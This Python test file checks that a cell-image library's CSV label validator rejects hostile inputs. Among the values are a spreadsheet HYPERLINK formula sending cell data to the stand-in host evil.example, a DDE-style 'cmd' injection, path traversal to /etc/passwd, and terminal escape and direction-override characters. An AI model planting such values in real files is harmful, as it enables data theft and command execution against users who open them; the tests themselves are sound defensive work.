"""Tables of labels as CSV files, and split files."""

from __future__ import annotations

from pathlib import Path

from cytolib.data.prepare import prepare_cells
from tests.hostile.case import Door, case, command
from tests.hostile.payloads import good_image

CSV = "cytolib data check csv:cells.csv"


def csv_case(input: str, text: str | bytes, *says: str) -> None:
    """A CSV file of labels beside one good image ``a.png``."""

    @case(input, CSV, *says)
    def _(folder: Path) -> Door:
        good_image(folder / "a.png")
        content = text if isinstance(text, bytes) else text.encode("utf-8")
        (folder / "cells.csv").write_bytes(content)
        return lambda: command("data", "check", "csv:cells.csv", "--root", str(folder))


LINK = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
csv_case("CSV: formula in domain", f"path,label,domain\na.png,blast,{LINK}\n", "line 2: domain", "formula")
csv_case(
    "CSV: formula in group, by +", "path,label,group\na.png,blast,+cmd|' /C calc'!A0\n", "line 2: group", "formula"
)
csv_case("CSV: formula in path, by @", "path,label\n@SUM(1).png,blast\n", "line 2: path", "formula")
csv_case("CSV: formula in label, by -", "path,label\na.png,-2+3\n", "line 2: label", "formula")
csv_case("CSV: value that begins with a tab", 'path,label,group\na.png,blast,"\t=1+1"\n', "line 2: group", "control")
csv_case("CSV: zero character in a path", b"path,label\na\0.png,blast\n", "line 2: path", "control")
csv_case("CSV: label that turns direction (U+202E)", "path,label\na.png,bla\u202est\n", "line 2: label", "direction")
csv_case("CSV: escape sequence in a label", "path,label\na.png,\x1b[2Jblast\n", "line 2: label", "control")
csv_case(
    "CSV: path that leaves the folder", "path,label\n../../etc/passwd,blast\n", "line 2: path", "leaves the folder"
)
csv_case("CSV: absolute path", "path,label\n/etc/passwd,blast\n", "line 2: path", "leaves the folder")
csv_case(
    "CSV: address in place of a path", "path,label\nhttp://evil.example/a.png,blast\n", "cells: none of 1", "No such"
)
csv_case("CSV: path of 100,000 characters", f"path,label\n{'a' * 100_000}.png,blast\n", "cells: none of 1", "too long")
csv_case("CSV: a single line of 20 MB", b"path,label\n" + b"a" * 20_000_000, "cells.csv", "field larger than")
csv_case("CSV: 100,000 columns", ",".join(["path", "label", *map(str, range(100_000))]) + "\n", "100,002 columns")
csv_case("CSV: two columns of one name", "path,label,label\na.png,blast,platelet\n", "'label' stands twice")
csv_case("CSV: more values than columns", "path,label\na.png,blast,blast\n", "line 2: 3 values; expected 2")
csv_case(
    "CSV: Latin-1 in a line of UTF-8", b"path,label\na.png,blast\n\xe9.png,blast\n", "cells.csv", "save it as UTF-8"
)
csv_case("CSV: UTF-16", "path,label\na.png,blast\n".encode("utf-16"), "cells.csv", "save it as UTF-8")
csv_case("CSV: quote that never ends", 'path,label\n"a.png,blast\n' * 3, "cells.csv", "not a readable CSV")
csv_case("CSV: scale 1e999", "path,label,um_per_px\na.png,blast,1e999\n", "line 2: um_per_px", "above 0")


@case("CSV: file of 1 GB in one line", CSV, "cells.csv", "under 256,000,000")
def _(folder: Path) -> Door:
    with open(folder / "cells.csv", "wb") as file:
        file.write(b"path,label\n")
        file.truncate(1_000_000_000)  # a hole: takes no room
    return lambda: command("data", "check", "csv:cells.csv", "--root", str(folder))


@case("split file that is no text", "notebook 00, split_file", "split.csv", "not a readable CSV file")
def _(folder: Path) -> Door:
    good_image(folder / "cytolib_data" / "set" / "blast" / "a.png")
    (folder / "split.csv").write_bytes(b"\xff\xfe\0\0" * 100)
    fractions = {"val_fraction": 0.0, "test_fraction": 0.0, "n_cells": 1, "n_held_out": 0, "image_size": 32}
    return lambda: prepare_cells(
        "folder:set", folder, label_set="fine", split_file=str(folder / "split.csv"), **fractions
    )  # type: ignore[arg-type]
